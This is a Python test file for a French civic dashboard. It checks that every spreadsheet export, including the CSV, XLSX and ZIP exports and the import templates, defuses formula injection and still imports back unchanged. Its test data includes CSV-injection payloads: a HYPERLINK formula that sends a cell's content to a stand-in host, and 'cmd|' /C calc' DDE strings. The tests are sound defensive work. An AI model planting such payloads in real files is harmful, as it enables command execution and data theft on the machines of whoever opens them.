"""Nothing a partner editor types runs in a programme manager's spreadsheet.

A partner editor's pending load carries text built to run as a formula (every prefix a
spreadsheet reads as one, and the same after a separator inside the text). Every file the app
makes for a spreadsheet — the whole-store export (directory and the ZIP of /donnees), the
explorer's CSV and XLSX, the import templates — is opened as a spreadsheet would open it, and no
cell may start like a formula; the whole-store export still imports back identically.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select, update

from dashboard.app import create_app
from dashboard.settings import Settings
from data.explorer_export import csv_bytes, xlsx_bytes
from data.exporting import export_store, import_store
from data.importing.service import import_file
from data.models import Action, DataLoad, Event, Indicator, Observation, Outcome, Territory
from data.reference_loading import load_reference
from data.spreadsheet_safety import csv_text, restored_from_csv
from data.store import bump_data_version, make_engine, transaction, upgrade
from layouts import ids
from tests.accounts import create_accounts, log_in
from tests.importing_support import PARIS_EDITOR, snapshot
from tests.importing_support import csv_bytes as french_csv
from tests.test_explorer_app import export
from tests.test_export import _drop_second_databases, _second_postgres  # noqa: F401 - fixture

# What Excel and LibreOffice read as the start of a formula (OWASP, "CSV Injection").
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A file's checks keep these as typed (one of each prefix, and the same after a separator).
TYPED = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Voir le bilan")',
    "-2+3+cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Atelier;=1+2;fin",
    "Atelier,-2+3+cmd|' /C calc'!A0,fin",
    'Atelier;"=1+2";fin',
]
# Legitimate text that must come back exactly as it was.
LEGITIMATE = ["-", "- atelier", "'déjà' cité", "Paris, -20 %", "« Vivre ensemble »"]
# A file's checks trim surrounding blanks and join lines, but the store can hold such text
# (an earlier export, the command line): the writers must not rely on the checks.
STORED_ONLY = ["\t=1+2", "\r=1+2", "Bilan :\n=1+2\n- point suivant\n@cmd"]
# A number is not a formula, whichever decimal mark (a number column is never marked).
NUMBER = re.compile(r"-?\d+([.,]\d+)?([eE][-+]?\d+)?")


def opens_like_a_formula(cell: str) -> bool:
    # A quote opens a quoted cell in a spreadsheet: what follows it is the cell's start.
    return cell.lstrip('"')[:1] in TRIGGERS


def formula_cells_of_csv(text: str, delimiter: str) -> list[str]:
    """Cells starting like a formula, as a spreadsheet reading the file with `delimiter` sees
    them, and also as one splitting it on the other usual separators (French Excel splits on
    `;`, English Excel on `,`, whatever the file uses) and on every line break."""
    found = [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
        if cell[:1] in TRIGGERS and not NUMBER.fullmatch(cell)
    ]
    for piece in re.split(r"[,;\t\r\n]", text):
        if opens_like_a_formula(piece) and not NUMBER.fullmatch(piece):
            found.append(piece)
    return found


def formula_cells_of_xlsx(content: bytes) -> list[tuple[str, str, object]]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in TRIGGERS)
    ]


# --- the rule itself


def test_the_marks_are_taken_off_exactly_for_every_text():
    alphabet = "=+-@\t\r\n,;'\"a "
    for length in range(5):
        for letters in itertools.product(alphabet, repeat=length):
            text = "".join(letters)
            marked = csv_text(text)
            assert restored_from_csv(marked) == text
            # Wherever a spreadsheet may start a cell or a row, nothing starts like a formula.
            assert not any(map(opens_like_a_formula, re.split(r"[,;\t\r\n]", marked))), text
    for text in TYPED + LEGITIMATE + STORED_ONLY:
        assert restored_from_csv(csv_text(text)) == text
        assert not formula_cells_of_csv(csv_text(text), ",")


def test_the_explorer_files_keep_numbers_as_numbers_and_make_text_inert():
    headers = ["=Partenaire", "Indicateur", "Valeur"]
    cells = [[text, "x", -2.5] for text in TYPED + LEGITIMATE + STORED_ONLY]
    content = csv_bytes(headers, cells).decode("utf-8-sig")
    assert not formula_cells_of_csv(content, ";")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    assert [row[2] for row in rows[1:]] == ["-2,5"] * len(cells)  # a number, not marked
    assert rows[0][0] == "'=Partenaire"
    workbook = xlsx_bytes(headers, cells, "Explorateur", about=[("Vue", "=1+2")])
    assert not formula_cells_of_xlsx(workbook)
    values = [row[2] for row in load_workbook(io.BytesIO(workbook)).active.iter_rows(min_row=2)]
    assert [cell.value for cell in values] == [-2.5] * len(cells)
    assert {cell.data_type for cell in values} == {"n"}


# --- an editor's pending load, through the real import


def _events_file() -> bytes:
    header = ["partenaire", "type", "titre", "date", "lieu", "résultats", "présents citoyen"]
    rows = [header]
    placeholders = [f"à compléter {n}" for n in range(len(STORED_ONLY))]  # see below
    for number, text in enumerate(TYPED + LEGITIMATE + placeholders):
        rows.append(["paris", "atelier", text, f"{number + 1:02d}/10/2012", text, text, "3"])
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _outcomes_file() -> bytes:
    header = ["partenaire", "type", "titre", "description", "statut", "date"]
    rows = [header]
    for number, text in enumerate(TYPED + LEGITIMATE):
        rows.append(["paris", "proposition", text, text, "retenue", f"{number + 1:02d}/06/2012"])
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def add_hostile_pending_loads(engine: Engine) -> None:
    """A Paris editor's loads waiting for approval, full of text built to run as formulas."""
    for content, name in ((_events_file(), "=evenements.csv"), (_outcomes_file(), "-bilan.csv")):
        result = import_file(engine, content, name, PARIS_EDITOR)
        assert result.ok, result.problems()
    observation = [
        ["indicateur", "début", "territoire", "valeur"],
        ["paris_pratiques_detectees", "01/03/2012", "75111", "2,5"],
    ]
    assert import_file(engine, french_csv(observation), "@obs.csv", PARIS_EDITOR).ok
    observation[1][-1] = "4"  # a replaced row on record, so every table has something
    assert import_file(engine, french_csv(observation), "+obs.csv", PARIS_EDITOR).ok
    with transaction(engine) as session:
        events = session.scalars(select(Event).order_by(Event.id)).all()
        outcomes = session.scalars(select(Outcome).order_by(Outcome.id)).all()
        assert {e.title for e in events if not e.published} >= set(TYPED + LEGITIMATE)  # as typed
        to_complete = [e for e in events if e.title.startswith("à compléter")]
        for event, text in zip(to_complete, STORED_ONLY, strict=True):
            event.title = event.place = event.outcomes = text
        [o for o in outcomes if not o.published][0].description = STORED_ONLY[2]
        # A negative number in a numeric column stays a number (no store rule forbids one).
        last = session.scalar(select(func.max(Observation.id)))
        session.execute(update(Observation).where(Observation.id == last).values(value=-2.5))
        bump_data_version(session)


def _empty_store_like(engine: Engine, tmp_path: Path) -> Engine:
    url = (
        f"sqlite:///{tmp_path / 'target.sqlite3'}"
        if engine.dialect.name == "sqlite"
        else _second_postgres(engine)
    )
    target = make_engine(url)
    upgrade(target)
    with transaction(target) as session:
        load_reference(session)
    return target


def test_the_whole_store_export_is_inert_and_imports_back_identically(demo_engine, tmp_path):
    add_hostile_pending_loads(demo_engine)
    directory = tmp_path / "export"
    export_store(demo_engine, directory)
    files = sorted(directory.glob("*.csv"))
    assert files
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert not formula_cells_of_csv(text, ","), path.name
    with open(directory / "observation.csv", encoding="utf-8", newline="") as source:
        observations = list(csv.DictReader(source))
    assert "-2.5" in {row["value"] for row in observations}  # numbers are not marked

    target = _empty_store_like(demo_engine, tmp_path)
    import_store(target, directory)
    assert snapshot(target) == snapshot(demo_engine)  # every table, exactly
    with target.connect() as connection:
        titles = set(connection.scalars(select(Event.title)))
        names = set(connection.scalars(select(DataLoad.file_name)))
    assert set(TYPED + LEGITIMATE) | {STORED_ONLY[0]} <= titles
    assert {"=evenements.csv", "-bilan.csv", "@obs.csv", "+obs.csv"} <= names
    target.dispose()

    descriptor = json.loads((directory / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["democratic"]["spreadsheet_safety"]["mark"] == "'"


# --- through HTTP, as a programme manager


@pytest.fixture
def manager_client(demo_engine, tmp_path):
    add_hostile_pending_loads(demo_engine)
    _hostile_reference_labels(demo_engine)
    create_accounts(demo_engine)
    settings = Settings(
        database_url=demo_engine.url.render_as_string(hide_password=False),
        instance_path=tmp_path / "instance",
        public_access=False,
    )
    client = create_app(settings).server.test_client()
    assert log_in(client, "charge@example.org").status_code == 303  # signed in, sent on
    return client


def _hostile_reference_labels(engine: Engine) -> None:
    """The explorer and the templates show labels from the store: make them hostile too."""
    texts = TYPED + STORED_ONLY
    with transaction(engine) as session:
        used = session.scalars(
            select(Observation.territory_code)
            .where(Observation.partner_id.is_not(None), Observation.territory_code != "")
            .distinct()
            .order_by(Observation.territory_code)
        ).all()
        for code, text in zip(used, itertools.cycle(texts), strict=False):
            session.execute(update(Territory).where(Territory.code == code).values(name=text))
        indicators = session.scalars(select(Indicator.code).order_by(Indicator.code)).all()
        for code, text in zip(indicators, texts, strict=False):
            session.execute(update(Indicator).where(Indicator.code == code).values(label_fr=text))
        actions = session.scalars(select(Action.id).order_by(Action.id)).all()
        for action_id, text in zip(actions, texts, strict=False):
            session.execute(update(Action).where(Action.id == action_id).values(title_fr=text))
        bump_data_version(session)


def test_the_whole_store_download_is_inert_and_imports_back(manager_client, demo_engine, tmp_path):
    response = manager_client.get("/donnees/export.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8")
            assert not formula_cells_of_csv(text, ","), name
    archive.extractall(tmp_path / "downloaded")
    target = _empty_store_like(demo_engine, tmp_path)
    import_store(target, tmp_path / "downloaded")
    assert snapshot(target) == snapshot(demo_engine)
    target.dispose()


def test_the_explorer_downloads_are_inert(manager_client):
    values = {f"{ids.EXPLORER_BREAKDOWN}.value": "territoire"}
    name, content = export(manager_client, ids.EXPLORER_CSV, **values)
    text = content.decode("utf-8-sig")
    assert name.endswith(".csv") and len(text.splitlines()) > 2
    assert "'=HYPERLINK" in text or "'-2+3+cmd" in text  # the hostile labels are there, inert
    assert not formula_cells_of_csv(text, ";")
    name, content = export(manager_client, ids.EXPLORER_XLSX, **values)
    assert name.endswith(".xlsx")
    assert not formula_cells_of_xlsx(content)


@pytest.mark.parametrize("kind", ["observations", "evenements", "resultats"])
def test_the_templates_are_inert(manager_client, kind):
    xlsx = manager_client.get(f"/donnees/modele/{kind}.xlsx")
    assert xlsx.status_code == 200
    assert not formula_cells_of_xlsx(xlsx.data)
    assert "'=HYPERLINK" in str(
        [
            c.value
            for row in load_workbook(io.BytesIO(xlsx.data))["Codes autorisés"].iter_rows()
            for c in row
        ]
    )
    text = manager_client.get(f"/donnees/modele/{kind}.csv").data.decode("utf-8-sig")
    assert not formula_cells_of_csv(text, ";")
